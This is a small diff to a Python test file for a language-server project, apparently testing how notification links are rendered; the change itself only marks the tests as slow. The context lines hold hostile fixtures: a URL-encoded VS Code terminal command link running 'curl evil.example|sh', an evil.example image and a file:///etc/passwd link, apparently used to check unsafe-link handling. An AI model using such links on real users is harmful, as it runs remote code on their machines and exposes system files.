@@ -12,6 +12,8 @@ from lsprotocol import types
 
 from tests.gate.rendered import NOTIFICATION_LINK, PARSER, live, unsafe
 
+pytestmark = pytest.mark.slow  # language-server sessions
+
 COMMAND = "command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D"
 NOTE = "\n".join([
     "![x](https://evil.example/x.png) [c](" + COMMAND + ") [f](file:///etc/passwd)",
